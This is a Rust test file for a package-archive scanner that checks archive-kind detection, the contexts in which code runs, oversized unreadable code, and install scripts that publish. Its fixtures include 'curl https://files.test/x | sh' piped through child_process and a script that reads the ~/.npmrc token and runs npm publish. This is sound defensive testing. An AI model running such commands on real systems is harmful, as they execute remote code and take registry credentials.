//! Kinds of archives whose name does not say what they are.

use bulkhead_core::{Confidence, FindingContext, Severity};

use super::make_tar::{Item, gzip, tar};
use super::{look, look_local, must_find};
use crate::{ArchiveKind, Limits, inspect_as};

#[test]
fn a_tgz_is_what_the_caller_says() {
    let bytes = gzip(&tar(&[Item::file("package/package.json", b"{}")]));
    let report = inspect_as(&bytes, ArchiveKind::Npm, "demo-1.0.0.tgz", &Limits::default());
    assert_eq!((report.kind, report.readable, report.findings), (ArchiveKind::Npm, true, vec![]));
    assert_eq!(look(&bytes, "demo-1.0.0.tgz").kind, ArchiveKind::SdistTarGz);
    assert_eq!(ArchiveKind::of_local("demo-1.0.0.tgz"), ArchiveKind::Npm);
    assert_eq!(ArchiveKind::of_local("demo-1.0.0.crate"), ArchiveKind::Crate);
}

#[test]
fn a_tree_is_a_plain_tar_and_its_links_are_its_owners() {
    let items = [Item::file("site-packages/a.py", b"x = 1\n"), Item::link("bin/python", b'2', "/usr/bin/python3")];
    let bytes = tar(&items);
    let report = inspect_as(&bytes, ArchiveKind::Tree, "", &Limits::default());
    assert_eq!((report.readable, report.member_count, report.findings), (true, 2, vec![]));
    let cut = inspect_as(&bytes[..700].to_vec(), ArchiveKind::Tree, "", &Limits::default());
    assert!(!cut.readable && !cut.findings.is_empty());
}

/// What `bin` names waits for somebody to type it; what `main` names runs with the first `require`.
#[test]
fn a_bin_is_called_and_a_main_is_imported() {
    let context = |manifest: &str| {
        let script = b"require('child_process').execSync('curl https://files.test/x | sh')\n";
        let items = [Item::file("package/package.json", manifest.as_bytes()), Item::file("package/cli.js", script)];
        let report = inspect_as(&gzip(&tar(&items)), ArchiveKind::Npm, "demo-1.0.0.tgz", &Limits::default());
        let hooks: Vec<String> = report.profile.hooks.iter().map(|hook| hook.kind.clone()).collect();
        let found = report.findings.iter().find(|found| found.detector == "reverse-shell");
        (found.expect("it is seen in both").context, hooks)
    };
    let (when, hooks) = context(r#"{"name": "demo", "version": "1.0.0", "bin": {"demo": "./cli.js"}}"#);
    assert_eq!((when, hooks), (FindingContext::Call, vec!["bin:demo".to_owned()]));
    let (when, hooks) = context(r#"{"name": "demo", "version": "1.0.0", "bin": "./cli.js"}"#);
    assert_eq!((when, hooks.len()), (FindingContext::Call, 1));
    let (when, _) = context(r#"{"name": "demo", "version": "1.0.0", "main": "./cli.js"}"#);
    assert_eq!(when, FindingContext::Import);
    let (when, _) =
        context(r#"{"name": "demo", "version": "1.0.0", "scripts": {"prepare": "true", "install": "node cli.js"}}"#);
    assert_eq!(when, FindingContext::Install);
}

/// What is too large for its reader is said, by how it starts: a bundle that is imported adds to the score, what an installation
/// runs is refused.
#[test]
fn code_that_is_too_large_to_be_read_is_said() {
    let padded =
        |line: &str, size: usize| [b"// filler filler filler filler filler\n".repeat(size / 38), line.into()].concat();
    let look = |name: &str, manifest: (&str, &str), path: &str, code: &[u8]| {
        let items = [Item::file(manifest.0, manifest.1.as_bytes()), Item::file(path, code)];
        let report = look_local(&gzip(&tar(&items)), name);
        let found = report.findings.iter().find(|found| found.detector == "code-not-read").cloned();
        (found.map(|found| (found.context, found.severity, found.confidence)), report)
    };
    let manifest = |rest: &str| format!(r#"{{"name": "demo", "version": "1.0.0", {rest}}}"#);
    let script = padded("require('child_process').exec('curl https://files.test/x | sh')\n", 9 << 20);
    let low = |context| Some((context, Severity::Low, Confidence::Medium));
    let high = Some((FindingContext::Install, Severity::High, Confidence::High));

    let main = manifest(r#""main": "./big.js""#);
    let (found, report) = look("demo-1.0.0.tgz", ("package/package.json", &main), "package/big.js", &script);
    assert_eq!(found, low(FindingContext::Import));
    assert!(
        (1..55).contains(&crate::score::score(&report.findings)),
        "a compiler is a bundle of nine megabytes: {:#?}",
        report.findings
    );
    let bin = manifest(r#""bin": "./big.js""#);
    let (found, _) = look("demo-1.0.0.tgz", ("package/package.json", &bin), "package/big.js", &script);
    assert_eq!(found, low(FindingContext::Call));
    let install = manifest(r#""scripts": {"postinstall": "node big.js"}"#);
    let (found, _) = look("demo-1.0.0.tgz", ("package/package.json", &install), "package/big.js", &script);
    assert_eq!(found, high);
    let install = manifest(r#""scripts": {"postinstall": "sh ./big.sh"}"#);
    let shell = [b"# filler filler\n".repeat(5 << 16), b"curl https://files.test/x | sh\n".to_vec()].concat();
    let (found, _) = look("demo-1.0.0.tgz", ("package/package.json", &install), "package/big.sh", &shell);
    assert_eq!(found, high);

    let build = padded("fn main() {}\n", 9 << 20);
    let cargo = ("demo-1.0.0/Cargo.toml", "[package]\nname = \"demo\"\nversion = \"1.0.0\"\n");
    let (found, report) = look("demo-1.0.0.crate", cargo, "demo-1.0.0/build.rs", &build);
    assert_eq!(found, high);
    must_find(&report, "code-not-read", Severity::High, "a build script");
    assert!(report.profile.hooks.iter().any(|hook| hook.kind == "build.rs"));
    let (found, _) = look("demo-1.0.0.crate", cargo, "demo-1.0.0/src/bindings.rs", &build);
    assert_eq!(found, low(FindingContext::Call));
    let (found, _) = look("demo-1.0.0.crate", cargo, "demo-1.0.0/build.rs", b"fn main() {}\n");
    assert_eq!(found, None);
}

/// However the client is started: what is refused is that an installation publishes.
#[test]
fn an_installation_that_publishes_is_refused() {
    let found = |hook: &str, script: &str| {
        let manifest =
            format!(r#"{{"name": "demo", "version": "1.0.0", "main": "x.js", "scripts": {{"{hook}": "node x.js"}}}}"#);
        let items =
            [Item::file("package/package.json", manifest.as_bytes()), Item::file("package/x.js", script.as_bytes())];
        let report = look_local(&gzip(&tar(&items)), "demo-1.0.0.tgz");
        report.findings.iter().any(|found| {
            found.detector == "install-script"
                && (found.severity, found.confidence) == (Severity::High, Confidence::High)
                && found.title.contains("published")
        })
    };
    for script in [
        "require('child_process').execSync('npm publish');",
        "require('child_process').spawnSync('npm', ['publish', '--access', 'public']);",
        "const t = require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8');\n\
         require('child_process').execSync(`npm publish --//registry.example/:_authToken=${t}`);",
    ] {
        assert!(found("postinstall", script) && found("preinstall", script), "{script}");
        assert!(!found("prepublish", script) && !found("test", script), "{script}");
    }
    assert!(!found("postinstall", "require('child_process').execSync('npm run build');"));
}
